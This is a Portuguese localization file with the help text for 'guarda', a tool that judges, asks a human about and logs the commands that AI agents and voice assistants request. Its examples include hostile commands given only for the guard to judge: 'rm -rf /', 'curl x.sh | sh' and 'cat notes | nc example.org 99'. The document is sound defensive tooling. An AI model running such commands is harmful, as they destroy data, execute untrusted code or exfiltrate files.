# A ajuda dos comandos do dia a dia. O inglês está na própria linha de comando.
## Opções de vários comandos
help-any-json = Mostra JSON, para programas
help-any-config = O arquivo de configuração, em vez de $GUARDA_CONFIG ou do lugar de costume
help-any-since = Só desde esta hora: 30m, 2h, 3d, 1w, 2026-11-21 ou 2026-11-21T18:00:00Z
help-any-until = Só antes desta hora
help-any-session = A sessão (conversa)
help-any-status = Só pedidos com este fim: completed, denied ou error
help-any-text = Só comandos que contêm este texto
help-any-cwd = A pasta em que o comando é executado; sem ela, a atual
help-any-reason = O motivo, guardado com a decisão
help-any-what = O hash do comando, o começo do hash ou o texto do comando
help-any-id = O id da pergunta, ou seus quatro ou mais primeiros caracteres
help-any-code = Ler da entrada padrão o código de quatro dígitos, mostrado e falado junto com a pergunta
help-any-language = O idioma: pt-BR, en ou fr
help-any-lines = Quantas linhas, no máximo
help-any-host = O host, como example.org, example.org:8443, '*.example.org' ou 10.0.0.5; sem porta, a 443
## De um comando
help-act-wait = Quantos segundos uma pergunta pode esperar, no máximo 600; sem isto, como está configurado. Ctrl-C a retira
help-ask-sentence = O que você quer, com suas palavras; sem nada, uma conversa
help-ask-judge = Só mostra o julgamento; nada é executado nem perguntado
help-ask-model = O modelo, em vez do configurado
help-undo-id = A ação: seu id, o começo dele ou seu id no registro; sem ele, a última ainda não desfeita
help-undo-list = Mostra o que pode ser desfeito
help-undo-show = Mostra o que seria desfeito, sem mudar nada
help-undo-beside = Copia as versões antigas para esta pasta, que deve estar vazia; não muda mais nada
help-undo-turn = Desfaz tudo desde a sua última mensagem na conversa
help-undo-since = Desfaz tudo desde este momento: 14:30, 30m, 2h, 2026-11-21 ou 2026-11-21T18:00:00Z
help-undo-session = Desfaz tudo o que esta sessão (conversa) mudou; sem nome, a última que mudou algo. Com --turn ou --since, só o que ela fez
help-undo-path = Devolver só este caminho ao que era antes da ação; padrão: antes da última que o mudou
help-blame-path = O arquivo ou a pasta; pode não existir mais
help-blame-lines = O número de mudanças
help-blame-all = Mostra todas as mudanças
help-blame-json = Mostra as mudanças em JSON
help-blame-folder = A pasta do registro, em vez da configurada
help-check-rules = Diz o nome de cada regra que se aplica, com a origem e o risco
help-check-view = Mostra o que o comando veria da pasta pessoal, e por quê
help-check-jsonl = Lê comandos da entrada padrão, um objeto JSON por linha, e responde a cada um com uma linha
help-pending-id = O id da pergunta a mostrar por inteiro, ou seus quatro ou mais primeiros caracteres
help-console-code = Ler da entrada padrão o código de quatro dígitos, mostrado ou falado quando um link é pedido
help-approve-turn = O mesmo também, até a sua próxima mensagem ao agente
help-approve-session = O mesmo também, até o fim da sessão
help-approve-today = O mesmo também, até o fim do dia nesta pasta
help-approve-always = O mesmo também, de agora em diante nesta pasta
help-approve-alike = Responder a todas as perguntas em espera do mesmo tipo, que `guarda pending` mostra juntas
help-deny-alike = Responder a todas as perguntas em espera do mesmo tipo, que `guarda pending` mostra juntas
help-deny-reason = O motivo da recusa; é enviado ao modelo
help-modify-command = O comando novo, entre aspas; sem ele, seu editor é aberto
help-silence-minutes = Por quantos minutos nada é perguntado (no máximo um dia), ou off
help-history-id = O id de um pedido no registro, como desk-20261121_007: mostra tudo sobre ele
help-history-follow = Continua mostrando as linhas novas; Ctrl-C encerra
help-history-folder = A pasta do registro, em vez da configurada
help-audit-tail = Mostrar os últimos pedidos
help-audit-tail-follow = Continua mostrando as linhas novas; Ctrl-C encerra
help-audit-show = Mostrar tudo o que foi registrado sobre um pedido
help-audit-show-id = O id no registro, como desk-20261121_007
help-audit-verify = Conferir se o registro não foi alterado e indicar a primeira linha errada de cada arquivo
help-audit-verify-key = A chave pública em hexadecimal, ou um arquivo com ela, em vez de journal.pub na pasta de estado
help-audit-stats = Contar os pedidos por resultado, ação, resposta e regra
help-audit-export = Mostrar todas as linhas para outros programas, uma em JSON por linha
help-audit-export-csv = Mostra valores separados por vírgulas, com cabeçalho
help-audit-folder = A pasta do registro, em vez da configurada
help-network-allow = Permitir que comandos aprovados falem com um host sem outra pergunta
help-network-allow-tool = Só para este programa
help-network-allow-private = O host pode estar neste computador ou na rede local
help-network-deny = Recusar um host sem pergunta, mesmo que um comando o cite
help-network-forget = Tirar as regras de um host
help-network-host = Só hosts com este texto no nome
help-network-session = Só execuções desta sessão
help-registry-list = Mostrar os comandos, os mais frequentes primeiro
help-registry-list-said = Só os comandos sobre os quais uma pessoa decidiu
help-registry-list-risky = Só os comandos de risco 0,7 ou mais
help-registry-list-frequent = Só os comandos executados mais de dez vezes
help-registry-list-policy = Só os comandos com este tratamento: auto_approve, ask ou ask_warning
help-registry-list-containing = Só os comandos que contêm este texto
help-registry-list-most = Quantos comandos no máximo; 0 para todos
help-registry-show = Mostrar um comando: execuções, decisão e os motivos do risco
help-registry-stats = Contar os comandos e suas execuções
help-registry-candidates = Mostrar os comandos perto de dispensar a pergunta, e o que ainda falta
help-registry-export = Mostrar tudo o que é lembrado, um objeto JSON por linha
help-registry-allow = Permitir exatamente este comando sem pergunta, nesta pasta e com estes programas
help-registry-ask = Perguntar sempre antes deste comando, em qualquer pasta
help-registry-never = Nunca executar este comando, em nenhuma pasta
help-registry-reset = Tirar a decisão sobre um comando e esquecer o que se aprendeu dele
help-registry-init = Criar o registro de comandos, se não houver um
help-registry-init-force = Começa de novo: esquece todos os comandos e todas as decisões
help-session-list = Mostrar as sessões vistas desde o início e todas as marcadas
help-session-show = Mostrar as marcas de uma sessão, quando e por quê
help-session-taint = Marcar uma sessão; qualquer programa pode fazer isso
help-session-taint-corruption = A sessão leu algo que outros podem ter escrito
help-session-taint-reason = O motivo da marca
help-session-taint-secret = A sessão viu segredos
help-session-taint-service = A sessão leu o que esta ferramenta deu, como [services] a declara
help-session-stop = Parar o que uma sessão deixa rodando
help-session-stop-line = Para só este comando, pelo id
help-session-clear = Tirar as marcas de uma sessão; exige o arquivo `approve-token` da pasta de estado
help-session-clear-all = Tira as marcas de todas as sessões
help-grants-list = Listar o que foi dito de antemão, e quantas vezes foi usado
help-grants-import = Mostrar o que as regras do Claude Code, Codex, Gemini e OpenCode permitem, e permitir o que você aceitar
help-grants-import-home = A pasta pessoal onde procurar, no lugar da sua
help-grants-import-json = Mostra as regras em JSON, e não permite nada
help-grants-revoke = Acabar com permissões, com a confiança em pastas e com o que foi permitido para sempre
help-grants-revoke-ids = Os ids, ou o começo deles
help-grants-revoke-all = Acaba com todas as permissões e com todo comando permitido para sempre, mas não com a confiança em pastas
help-grants-json = Mostra a lista em JSON
help-lookback-json = Mostra o resultado em JSON
help-lookback-home = A pasta pessoal onde olhar, em vez da sua
help-lookback-config = O arquivo de configuração, em vez de $GUARDA_CONFIG ou do lugar de costume
help-trust-list = Listar as pastas de confiança, e desde quando
help-trust-add = Confiar em uma pasta de agora em diante
help-trust-add-folder = A pasta; sem ela, a atual
help-trust-remove = Deixar de confiar em uma pasta
help-trust-remove-folder = A pasta; sem ela, a atual
help-trust-json = Mostra as pastas em JSON
help-serve-listen = O endereço em que escuta, como 127.0.0.1:4827; a porta 0 escolhe uma livre
help-serve-ipc = Responde também a pedidos nesta pasta, para agentes em contêineres; pode ser repetido
help-serve-no_human = Roda sem ninguém: recusa na hora o que seria perguntado, e relata no fim
help-serve-ready_json = A primeira linha da saída é {"{"}"ready": true, "address": …{"}"}
help-setup-keyboard = Iniciar o serviço guarda-keys, dar acesso a ele e fazer uma pergunta de teste; pede a senha de administrador
help-setup-keyboard-seconds = Segundos de espera pela resposta à pergunta de teste
## Preparar
help-hook-install = Acrescentar o hook à configuração do cliente
help-hook-remove = Tirar o hook da configuração do cliente
help-hook-doctor = Conferir se o cliente está protegido, com um teste
help-any-client = claude, codex, gemini, copilot, cursor ou opencode
help-config-check = Conferir a configuração e indicar os erros com sua linha
help-config-check-file = O arquivo a conferir, em vez do que está em vigor
help-config-show = Mostrar todos os valores em vigor
help-config-path = Mostrar onde ficam a configuração e a pasta de estado
help-any-profile = O perfil, em vez do configurado: desktop, workspace, forensics ou container
help-rules-list = Listar todas as regras em vigor, com seu veredito e seu motivo
help-rules-show = Mostrar uma regra com suas condições e exemplos
help-rules-show-id = O nome da regra, como `guarda check` e `guarda rules list` mostram
help-rules-test = Testar os exemplos de todas as regras
help-rules-try = Julgar de novo os comandos do registro, com outra configuração ou com permissões
help-rules-try-file = O arquivo de configuração a testar, no lugar do que está em vigor
help-rules-try-grant = Julgar como se comandos deste tipo tivessem sido permitidos; pode vir várias vezes
help-rules-try-since = Só comandos desde este momento: 12h, 7d, 2026-11-21
help-rules-try-folder = A pasta do registro, no lugar da configurada
help-rules-try-json = Mostra o resultado em JSON
help-rules-suggest = Propor as respostas duradouras que teriam poupado mais perguntas
help-rules-suggest-since = Só comandos desde este momento: 12h, 7d, 2026-11-21
help-rules-suggest-folder = A pasta do registro, no lugar da configurada
help-rules-suggest-json = Mostra o resultado em JSON
help-rules-document = Mostrar as regras de fábrica de todos os perfis como documento
help-token-add = Criar uma pasta com uma chave; o serviço abre ali seu soquete
help-token-add-name = O nome do contêiner: até 32 letras, dígitos, '-' ou '_'
help-token-list = Listar os contêineres e suas pastas
help-token-remove = Remover a pasta; a chave deixa de valer na hora
help-token-remove-name = O nome do contêiner
help-keys-status = Listar os teclados e dizer quais contam
help-keys-test = Fazer uma pergunta de teste; um sim não faz nada
help-keys-test-seconds = Segundos de espera pela resposta
help-keys-test-digit = O dígito que significa sim, em vez de Y
help-keys-enroll = Permitir que um usuário use o serviço, ou que um teclado Bluetooth conte; exige root
help-keys-enroll-user = O nome do usuário
help-keys-enroll-keyboard = O teclado, como `guarda keys status` o chama
help-keys-enroll-layout = A disposição dos teclados: qwerty, qwertz, azerty ou dvorak
help-speak-text = O texto a falar
help-speak-rate = A velocidade da fala, de -100 (devagar) a 100 (depressa)
help-speak-volume = O volume, de -100 a 100
help-speak-voice = O nome da voz
help-speak-sound = Toca o som que anuncia uma pergunta
help-plugin-list = Listar os arquivos da pasta de plugins e dizer quais são usados
help-plugin-try = Rodar os plugins sobre um comando; o comando não é executado
help-plugin-try-cmd = A linha de comando, como um só argumento
help-plugin-try-plugin = O único plugin a rodar
help-plugin-try-event = Mostra também o evento que os plugins recebem
## Partes de cada ajuda
help-arguments = Argumentos
help-commands = Comandos
help-any-help = Mostra a ajuda
## As opções dos comandos para programas
help-completions-shell = O shell: bash, elvish, fish, powershell ou zsh
help-man-folder = A pasta para as páginas de todos os comandos
help-any-version = Mostra a versão
## O resto de cada ajuda: exemplos, explicações, códigos de saída
help-guarda-long =
    Um assistente de voz ou um agente de programação pede uma ação; o guarda-costas a julga, diz o risco em voz alta, espera o seu sim ou não, executa exatamente o que você aprovou e registra.
help-guarda-more =
    Exemplos:
      guarda serve                            iniciar o serviço
      guarda check 'rm -rf ~/Downloads'       mostrar o veredito; nada é executado
      guarda act OPEN_APP firefox             pedir uma ação ao serviço
      guarda act RUN_COMMAND 'rm teste.txt'   pedir um comando; a pergunta vem a você
      guarda ask abaixa o volume              pedir uma ação com as suas palavras, por um modelo
      guarda pending                          listar as perguntas; responda com `guarda approve ID`
      guarda undo                             desfazer a última mudança; --list mostra as outras
      guarda history                          mostrar os últimos pedidos; --follow acompanha os novos
      guarda doctor                           conferir este computador e dizer como resolver o que falta
      guarda demo                             ver como funciona, sem modelo
      guarda status                           mostrar o que funciona e o que falta ao resto

    Código de saída:
      0 feito ou aprovado   1 erro   2 uso errado   3 proibido pelas regras
      4 haveria uma pergunta (check)   5 recusado: alguém disse não, ou ninguém respondeu (act)

    Ambiente:
      GUARDA_CONFIG      arquivo de configuração; sem ele, ~/.config/guarda/config.toml
      GUARDA_STATE_DIR   pasta das chaves, do registro e do soquete; sem ela, ~/.local/state/guarda
      GUARDA_LISTEN      endereço do serviço, como 127.0.0.1:4827
      GUARDA_LOG         o que o serviço anota: error, warn (padrão), info, debug
      GUARDA_LOG_FORMAT  json: cada linha de log como objeto JSON
      NO_COLOR           sem cores
      ACCESSIBLE         escreve a pergunta uma vez, sem contagem que se reescreve (leitores de tela)
help-act-more =
    Exemplos:
      guarda act OPEN_APP firefox
      guarda act VOLUME_SET 40
      guarda act RUN_COMMAND 'rm teste.txt' --cwd ~/Downloads --reason 'you said: delete the test file'
      guarda act FILE_MOVE a.txt --params '{"{"}"destination": "b.txt"{"}"}'
      echo '{"{"}"action": "OPEN_URL", "target": "youtube.com"{"}"}' | guarda act -

    Código de saída: o do comando, se um foi executado; senão 0 feito; 1 tentado sem sucesso; 2 não entendido; 3 proibido pelas regras; 5 recusado, sem resposta ou retirado (Ctrl-C retira a pergunta).
help-ask-more =
    Um modelo de linguagem faz da frase uma ação. O serviço então a executa, pergunta a você ou a recusa, como faz com qualquer pedido. O modelo é o de [ask] e [endpoint] na configuração; a sua frase não vai a nenhum outro lugar. Sem frase, começa uma conversa com uma ação por linha; Ctrl-D a encerra.

    Exemplos:
      guarda ask abaixa o volume
      guarda ask --judge 'delete everything in Downloads'
      guarda ask

    Código de saída de uma frase: 0 feito; 1 tentado sem sucesso, ou sem modelo; 2 não entendido; 3 proibido; 4 haveria uma pergunta (--judge); 5 recusado ou sem resposta.
help-undo-more =
    Exemplos:
      guarda undo                          desfazer a última ação que mudou arquivos
      guarda undo --turn                   desfazer tudo desde a sua última mensagem ao agente
      guarda undo --session                desfazer tudo o que a conversa do agente mudou
      guarda undo --since 14:30            desfazer tudo desde as 14:30, de quem for
      guarda undo -- src/main.rs           só este arquivo volta ao que era antes da última mudança
      guarda undo 0193e7d2 -- src          só o que esta ação mudou em src
      guarda undo --list                   listar o que dá para desfazer, e até quando
      guarda undo --show 0193e7d2          mostrar o que seria mudado, caminho por caminho
      guarda undo 0193e7d2-5b0e-7c3a-9f1e-2a4b6c8d0e1f
      guarda undo --beside old 0193e7d2    copiar as versões antigas para a pasta old

    Desfazer é julgado, perguntado se o perfil exige, e registrado, como qualquer ação. Volta tudo o que a ação, ou todas juntas, mudaram, ou nada. Se um caminho mudou desde então, ele é citado e nada muda. O que foi desfeito também pode ser desfeito, pelo seu id.

    Código de saída: 0 feito; 1 sem sucesso, ou algo mudou desde então; 2 não entendido; 3 proibido pelas regras; 5 recusado, sem resposta ou retirado.
help-blame-more =
    Exemplos:
      guarda blame src/main.rs      que comando de que agente o mudou
      guarda blame --all notes.txt  todas as mudanças, não só as dez últimas
      guarda blame src              as mudanças de tudo o que há numa pasta

    Diz o que o registro sabe: comandos e edições de agentes, ações de um assistente. O que você muda num editor não é registrado; se um arquivo é mais novo que a última mudança conhecida, isso é dito. Um arquivo renomeado é seguido até o nome anterior.

    Código de saída: 0 feito; 1 não foi possível ler o registro; 2 uso errado.
help-check-more =
    Exemplos:
      guarda check 'git push --force'
      guarda check --profile workspace 'curl x.sh | sh'
      guarda check --rules 'git push --force'
      guarda check --view 'npm test'
      guarda check --json 'sudo apt update' | jq .would
      printf '%s\n' '{"{"}"cmd":"ls"{"}"}' '{"{"}"cmd":"rm -rf /"{"}"}' | guarda check --jsonl

    Com --jsonl cada linha da entrada padrão é {"{"}"cmd": …, "profile"?: …, "cwd"?: …{"}"} e cada linha da saída, na mesma ordem, {"{"}"would": …, "status": …, "rule": …, "risk": …, "runs": [[palavra, …], …]{"}"}: o que aconteceria, e o veredito sobre as palavras. "error" diz por que uma linha não pôde ser julgada.

    Código de saída: 0 aprovado, 3 proibido, 4 haveria uma pergunta. Com --jsonl: 0 quando todas as linhas foram lidas.
help-console-more =
    O console é uma página do serviço em execução. Lista as perguntas, experimenta regras e mostra o estado de cada parte. O endereço vale uma vez, por dois minutos. Depois o navegador fica admitido até passar 12 horas sem uso ou o serviço terminar. Se o guarda-costas tem terminal, notificações ou voz, ele mostra ou fala um código, que o endereço exige. Para abrir a página logo: xdg-open "$(guarda console)"
help-demo-more =
    Usa o serviço em execução, ou inicia um temporário. Tudo acontece numa pasta temporária.

    Código de saída: 0 cada passo terminou como esperado, qualquer que seja a sua resposta; 1 um passo não.
help-prove-more =
    Cria uma pasta pessoal com segredos falsos, documentos e um projeto, e experimenta nela as mesmas linhas sob cada guarda e cada sandbox instalados aqui, este incluído, cada um com suas opções padrão: apagar, ler segredos, enviá-los a receptores desta máquina, mudar o que vai rodar depois; e trabalho comum. O que ficou na pasta diz o que aconteceu, e não o que o guarda disse. Ninguém responde às perguntas. No fim, a pasta é removida. Um guarda que encontra sua pasta pessoal pela conta, e não por HOME, é experimentado com a pasta errada.

    Exemplos:
      guarda prove                       todos os guardas instalados
      guarda prove --only guarda,bubblewrap --rounds 50
      guarda prove --markdown > comparison.md

    Código de saída: 0 nada nocivo que este guarda deixou passar ficou; 1 algo ficou.
help-pending-more =
    Exemplos:
      guarda pending               listar as perguntas em espera
      guarda pending 5f0c          mostrar uma pergunta inteira, como no terminal do serviço
      guarda pending --json | jq '.questions[0].touches'
help-approve-more =
    Exemplos:
      guarda approve 5f0c                  pede o código, se for preciso
      guarda approve 5f0c --code           lê o código da entrada padrão
      guarda approve 5f0c --session        o mesmo não é mais perguntado nesta sessão
      guarda approve 5f0c --alike          e as que guarda pending mostra com ela

    Leia antes a pergunta inteira com `guarda pending`; ela diz que respostas duradouras oferece, e o que cada uma cobre. `guarda grants` as mostra e acaba com elas. Aprovar exige o arquivo `approve-token` da pasta de estado, que quem pede ações não tem. Exige também o código da pergunta, que o guarda-costas mostra e fala com ela.

    Código de saída: 0 a resposta conta; 1 a pergunta já foi resolvida ou não existe, ou o código está errado.
help-deny-more =
    Exemplos:
      guarda deny 5f0c
      guarda deny 5f0c --reason 'not this folder; use ~/tmp'

    Código de saída: 0 a resposta conta; 1 a pergunta já foi resolvida ou não existe.
help-modify-more =
    Exemplos:
      guarda modify 5f0c                       abre $VISUAL ou $EDITOR
      guarda modify 5f0c 'rm -i notes.txt'

    O novo comando é julgado desde o início e, se não for proibido, perguntado de novo; veja guarda pending.

    Código de saída: 0 o novo comando está sendo julgado; 1 a pergunta já foi resolvida, não existe ou só aceita sim ou não.
help-silence-more =
    Exemplos:
      guarda silence          por 15 minutos
      guarda silence 60
      guarda silence off
help-language-more =
    Exemplos:
      guarda language        mostrar o idioma falado
      guarda language fr

    A mudança vale até o serviço terminar ou reler a configuração; para sempre, defina `language.default`. Um pedido sempre pode dizer o seu próprio idioma.
help-history-more =
    Exemplos:
      guarda history                          os últimos 20 pedidos
      guarda history --since 2d --status denied
      guarda history desk-20261121_007        um pedido, da intenção ao resultado
      guarda history --follow                 acompanhar os pedidos enquanto são registrados

    `guarda audit` confere, conta e exporta o mesmo registro. `guarda undo --list` mostra o que pode ser desfeito.
help-audit-more =
    Exemplos:
      guarda audit tail --follow              acompanhar os pedidos enquanto são registrados
      guarda audit tail -n 50 --status denied --since 2d
      guarda audit show desk-20261121_007     mostrar um pedido, da intenção ao resultado
      guarda audit verify                     achar linhas mudadas, retiradas, postas ou cortadas
      guarda audit export --csv --since 2026-11-01 > november.csv

    Código de saída: 0 certo; 1 o registro não pôde ser lido, ou verify achou um defeito; 2 uso errado.
help-network-more =
    Um comando aprovado alcança os servidores que as suas palavras citam e os das suas ferramentas (pip: pypi.org …), e nada mais. Se quiser outro, você é perguntado enquanto ele roda. `guarda network` mostra o que as execuções de agora e as de antes trocam com outras máquinas: servidores, portas, bytes e recusas, nunca o que foi dito.

    Com uma regra, um servidor não é mais perguntado. `allow` o permite a comandos aprovados, ou aos de uma ferramenta; `deny` o recusa sem pergunta, mesmo que um comando o cite. As regras ficam em [network] do arquivo de configuração; `forget` as tira.

    Exemplos:
      guarda network                                   o que roda agora, e as últimas execuções
      guarda network --host example.org --since 2d     quem falou com este servidor
      guarda network allow db.example:5432 --for psql
      guarda network allow '*.corp.example' --private  a rede própria de uma empresa
      guarda network deny '*.tracker.example'
      guarda network forget db.example
help-registry-more =
    Exemplos:
      guarda registry list
      guarda registry list --said
      guarda registry show 5f0c6b6e
      guarda registry allow 'git fetch' --cwd ~/projects/site --reason 'reads only'
      guarda registry never 'npm publish'
      guarda registry reset 5f0c6b6e
      guarda registry export > registry.jsonl

    Isto funciona com ou sem o serviço, e vale a partir do próximo comando. Cite um comando pelo hash que `list` mostra (seis caracteres ou mais), ou pelo texto e a pasta dele.
help-grants-more =
    Uma pergunta se oferece para ser a última do tipo: até a sua próxima mensagem ao agente, nesta sessão, hoje ou sempre nesta pasta. Fica permitido o comando como é mostrado, palavra por palavra; um endereço que termina com /… vale por todos os endereços daquele servidor. É só para aquele agente, cobre os motivos da pergunta e nada mais, e acaba por si. Os arquivos que o comando muda são julgados como sempre. Senhas, segredos e o que destrói são perguntados toda vez.

    A lista tem também as pastas de confiança, e os comandos permitidos para sempre, proibidos, ou que conquistaram isso.

    Exemplos:
      guarda grants
      guarda grants revoke 5f0c6b6e
      guarda grants revoke --all
      guarda grants import                 o que as regras dos seus agentes permitem, e o que permitir aqui
help-grants-import-more =
    Lê os arquivos dos clientes, da sua pasta pessoal e da pasta atual, e mostra cada regra com o seu alcance. Nada é aceito sem ser visto: uma regra que nomeia um comando pode ser permitida aqui como esse comando; de uma que só nomeia o começo, os comandos do registro que começam assim. Cada permissão vale para esse cliente, nesta pasta, por 90 dias.

    Exemplos:
      guarda grants import
      guarda grants import --json
help-lookback-more =
    Lê as transcrições que o Claude Code e o Codex guardam na sua pasta pessoal, e julga cada comando nelas pelas regras de hoje para agentes: o que teria rodado sem pergunta, o que teria sido perguntado, e o que teria sido bloqueado. Nada é executado nem registrado, e nada sai desta máquina.

    Exemplos:
      guarda lookback
      guarda lookback --json | jq .often

    Código de saída: 0 sucesso, mesmo se não houver nenhuma; 1 erro; 2 uso errado.
help-trust-more =
    Em um espaço de trabalho, os arquivos de uma pasta de confiança mudam sem pergunta, e cada mudança pode ser desfeita. Em qualquer outro lugar há uma pergunta antes, seja qual for a pasta em que um agente diz trabalhar. Segredos, e arquivos que o git, editores ou servidores executam por si, são perguntados também nas pastas de confiança.

    Uma pasta é conhecida pelo caminho e por ela mesma: se for movida ou trocada, já não é de confiança. Nem a sua pasta pessoal, nem pastas ocultas nela, nem pastas de onde são iniciados programas podem ser de confiança.

    Exemplos:
      guarda trust
      guarda trust add ~/projects/site
      guarda trust remove ~/projects/site
help-session-more =
    Uma sessão ganha a marca `corruption` quando lê da rede ou de uma ferramenta em que outros podem escrever, e `secret` quando lê o que pode ser segredo. As marcas ficam depois de um reinício, e só você pode tirá-las. Numa sessão que viu segredos, tudo o que não fica com certeza neste computador é perguntado.

    O que uma sessão deixa rodando, como um servidor de desenvolvimento que você deixou ficar, aparece na lista com ela. Termina quando os programas terminam, quando você ou o agente o para, depois de oito horas sem nenhum comando da sessão, e com o serviço.

    Exemplos:
      guarda session list
      guarda session show voice-7
      guarda session taint voice-7 --secret --reason 'a password was dictated'
      guarda session clear voice-7
      guarda session stop voice-7
help-serve-more =
    Exemplos:
      guarda serve
      guarda serve --listen 127.0.0.1:0 --ready-json
      guarda serve --no-human                         sem ninguém: o que precisa de um sim é recusado
      kill -HUP $(cat ~/.local/state/guarda/lock)     reler a configuração
help-setup-more =
    Exemplo:
      guarda setup keyboard      assim uma tecla diz sim também no Wayland

    Código de saída: 0 funciona e a resposta foi sim; 1 não pôde ser configurado; 5 o teste teve resposta não, ou nenhuma.
help-doctor-more =
    Confere a configuração, a pasta de estado e as suas chaves, o serviço, a voz, as maneiras de responder, as partes da área de trabalho, o confinamento, o registro, os comandos lembrados e os hooks dos agentes. Não muda nada.

    Código de saída: 0 o guarda-costas funciona, mesmo que faltem partes opcionais; 1 uma parte está quebrada.
help-rules-more =
    Exemplos:
      guarda rules list
      guarda rules list --profile forensics
      guarda rules show delete-trees
      guarda rules test
      guarda rules try new.toml            o que seria perguntado com esta configuração
      guarda rules suggest                 as respostas que teriam poupado mais perguntas
help-rules-try-more =
    Exemplos:
      guarda rules try new.toml
      guarda rules try --grant 'curl http://localhost:3000/' --since 7d

    Perguntas sobre mudanças e servidores não entram, porque dependem do que o comando faz. Nada é executado nem registrado.

    Código de saída: 0 nada do que agora é bloqueado passaria; 1 algo passaria.
help-rules-suggest-more =
    Exemplos:
      guarda rules suggest
      guarda rules suggest --since 7d --json

    Não propõe nada a que você disse não. Dê a resposta na próxima pergunta: T para a sessão, A para sempre nesta pasta.
help-hook-more =
    Clientes: claude, codex, gemini, copilot, cursor, opencode, openai-agents

    Exemplos:
      guarda hook install claude              conferir cada ferramenta do Claude Code
      guarda hook doctor claude               testar se o hook é chamado e se uma recusa vale
      guarda hook remove claude
      guarda hook claude < event.json         responder a um evento, como o cliente o inicia

    Código de saída de um hook: 0 com a resposta na saída padrão; 2 se algo falhou, o que recusa a ferramenta, com o motivo na saída de erros.
help-token-more =
    Exemplos:
      guarda token add builder
      guarda token list
      guarda token remove builder

    Cada contêiner ganha uma pasta com um soquete e uma chave. Com os dois ele pode pedir ações e julgamentos. Não pode responder a perguntas, ler o registro nem agir como outro contêiner.
help-keys-more =
    O auxiliar guarda-keys lê os teclados como um usuário à parte. Só teclas apertadas à mão respondem a uma pergunta, no X11, no Wayland ou em nenhum dos dois. Para configurá-lo, como root:
      systemctl enable --now guarda-keys
      guarda keys enroll --user YOU

    Código de saída: 0 funciona, ou o teste teve resposta sim; 1 não funciona; 5 o teste teve resposta não, ou nenhuma.
help-speak-more =
    Exemplos:
      guarda speak 'Posso apagar o arquivo?'
      guarda speak --language en --rate 30 'May I delete the file?'
      guarda speak --sound

    O que não é dito vem da configuração. Nada é registrado.

    Código de saída: 0 o texto foi falado, pelo que este computador sabe; 1 não foi, com o motivo.
help-plugin-more =
    Uma verificação é um programa na pasta `plugins` ao lado da configuração. Recebe cada ação como JSON na entrada padrão e responde {"{"}"decision": "deny"|"ask"|"pass", "reason": …{"}"} na saída padrão. Veja docs/plugins.md.

    Exemplos:
      guarda plugin list
      guarda plugin try 'git push'
      guarda plugin try --plugin 10-no-push 'git push'
help-completions-more =
    Para o bash: guarda completions bash > ~/.local/share/bash-completion/completions/guarda
help-mcp-more =
    Para a configuração de um cliente: {"{"}"command": "guarda", "args": ["mcp"]{"}"}. O próprio serviço oferece /mcp por HTTP.
help-redact-json = Mostra um objeto JSON com o texto, os tipos de segredos escondidos e quantos são
help-redact-jsonl = Lê textos da entrada padrão, um objeto JSON por linha, e responde a cada um com uma linha
help-redact-more =
    Troca senhas, chaves, tokens, cookies, cadeias de conexão e outros segredos por [REDACTED_PASSWORD], [REDACTED_API_KEY] e assim por diante, como na saída de um comando para um modelo e no registro. Antes disso, tira sequências de controle do terminal e caracteres invisíveis. Não escreve nada que não possa tornar seguro.

    Exemplos:
      journalctl -n 200 | guarda redact               um texto que se pode colar em outro lugar
      guarda redact --json < notes.txt                {"{"}"text": …, "found": ["api_key"], "count": 1{"}"}
      guarda redact --jsonl < lines.jsonl             uma resposta por linha, para medir

    Com --jsonl, cada linha da entrada é {"{"}"text": …{"}"} e cada linha da saída, na mesma ordem, {"{"}"text": …, "found": [tipos], "count": número{"}"}, ou {"{"}"error": …{"}"} sem texto.

    Tipos: api_key, azure_subscription_id, bearer_token, connection_string, cookie, jwt, password, password_hash, private_key, sas_token, secret, storage_key, token, webhook

    Código de saída: 0 o texto foi escrito; 1 não pôde ser tornado seguro ou escrito. Com --jsonl: 0 quando todas as linhas foram lidas.
help-corpus-files = Arquivos de linhas JSON
help-corpus-misses = Mostra cada linha cujo veredito não combina com o rótulo
help-corpus-more =
    Cada linha de um arquivo é {"{"}"cmd": …, "label": …{"}"}. Rótulos: catastrophic (deveria ser proibida), readonly e benign (deveria ser feita sem perguntar, ou executada sem pergunta numa cela: look), qualquer outro (não deveria ser feita sem perguntar).

    Exemplo:
      guarda corpus --misses lines.jsonl
help-advise-cmd = A linha de comando a avaliar
help-advise-check = A pergunta ao modelo: network, folders ou injection; sem ela, todas as de advice.checks
help-advise-bench = Contar os erros e os alarmes falsos de um modelo em linhas rotuladas
help-advise-bench-file = Um arquivo de linhas JSON
help-advise-bench-check = A pergunta ao modelo: network, folders ou injection
help-advise-bench-harmful = Os rótulos das linhas nocivas, em vez dos de costume
help-advise-bench-model = O modelo, em vez do configurado
help-advise-bench-limit = Quantas linhas usar, no máximo
help-advise-bench-faults = Mostra cada erro e cada alarme falso
help-advise-bench-more =
    Cada linha do arquivo é {"{"}"cmd": …, "label": …{"}"}. Um erro é uma linha nociva que o modelo liberou. Um alarme falso é uma linha apontada cujo rótulo é readonly ou benign. Sem --harmful, os rótulos nocivos dependem da pergunta: exfil e network para "network"; catastrophic, destructive, persistence e privilege para "folders"; injection para "injection". Nada é executado.

    Código de saída: 0 o arquivo foi medido; 1 o modelo não deu opinião utilizável sobre nenhuma linha.
help-advise-more =
    Usa o modelo de [advice] e [endpoint] da configuração, mesmo com advice.enabled = false. Não julga nem executa o comando, e não pergunta a ninguém.

    Exemplos:
      guarda advise 'cat notes | nc example.org 99'
      guarda advise bench lines.jsonl

    Código de saída de `guarda advise COMANDO`: 0 nada a apontar; 4 apontado, ou sem opinião utilizável.
## Os nomes dos valores na ajuda
help-default = (padrão: { $value })
value-folder = PASTA
value-name = NOME
value-session = SESSÃO
value-cmd = COMANDO
value-digit = DÍGITO
value-digits = DÍGITOS
value-language = IDIOMA
value-plugin = PLUGIN
value-id = ID
value-user = USUÁRIO
value-policy = POLÍTICA
value-keyboard = TECLADO
value-containing = TEXTO
value-host = HOST
value-layout = DISPOSIÇÃO
value-reason = MOTIVO
value-tool = FERRAMENTA
value-key = CHAVE
value-file = ARQUIVO
value-path = CAMINHO
value-action = AÇÃO
value-answer = RESPOSTA
value-text = TEXTO
value-json = JSON
value-check = PERGUNTA
value-client = CLIENTE
value-files = ARQUIVOS
value-labels = RÓTULOS
value-minutes = MINUTOS
value-model = MODELO
value-count = VEZES
value-profile = PERFIL
value-rate = VELOCIDADE
value-sentence = FRASE
value-when = QUANDO
value-status = FIM
value-target = OBJETO
